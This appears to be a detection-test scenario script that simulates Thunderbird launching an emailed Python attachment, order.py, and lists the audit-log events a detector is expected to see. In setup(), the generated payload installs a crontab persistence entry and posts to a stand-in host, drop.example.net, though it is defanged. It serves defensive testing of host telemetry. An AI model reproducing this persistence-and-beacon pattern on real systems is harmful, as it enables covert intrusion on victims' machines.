# The mail client itself starts an interpreter on its temporary copy.
title="Thunderbird opens an attached script with Python from its temporary folder"
what="Thunderbird, the real one, reads the buyer's mailbox over IMAP from Dovecot on the host itself; the buyer opens order.py with Python as the helper program. Thunderbird writes its temporary copy and starts Python on it, which leaves a crontab line and posts to 203.0.113.66."
host=ws3.example.org user=buyer daemons="cron dovecot" audit_format=RAW

setup() {
  dovecot_config
  printf 'import os, urllib.request\nos.makedirs(os.path.expanduser("~/.cache/ord"), exist_ok=True)\nopen(os.path.expanduser("~/.cache/ord/r.sh"), "w").write("exit 0\\n")\nos.system("(crontab -l 2>/dev/null; echo \\"17 * * * * sh ~/.cache/ord/r.sh\\") | crontab -")\nurllib.request.urlopen("http://drop.example.net/o", b"hello").read()\n' > "$base/out/order.py"
}
act() {
  small_talk 2
  display_up
  mail_in --from orders@example.net --to buyer@example.org --subject "Order 1187" --attach "$base/out/order.py:text/x-python"
  wait_mail buyer 1; wait_log 'orders@example.net'
  thunderbird_as buyer open order.py /usr/bin/python3.11
  wait_file /home/buyer/.cache/ord/r.sh 20
  sleep 2
  desktop_close
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'the message is delivered'
  net_step fetch 'thunderbird.* 127.0.0.1:143' 'the mail client fetches it'
  file_step save 'thunderbird.* .*order.*py' 'and writes a temporary copy'
  exec_step execute 'python3.11 .*order.py' 'which it has Python run'
  exec_step persist 'crontab -' 'a crontab line is left'
  net_step beacon 'python3.* 203.0.113.66:80' 'and it posts'
}
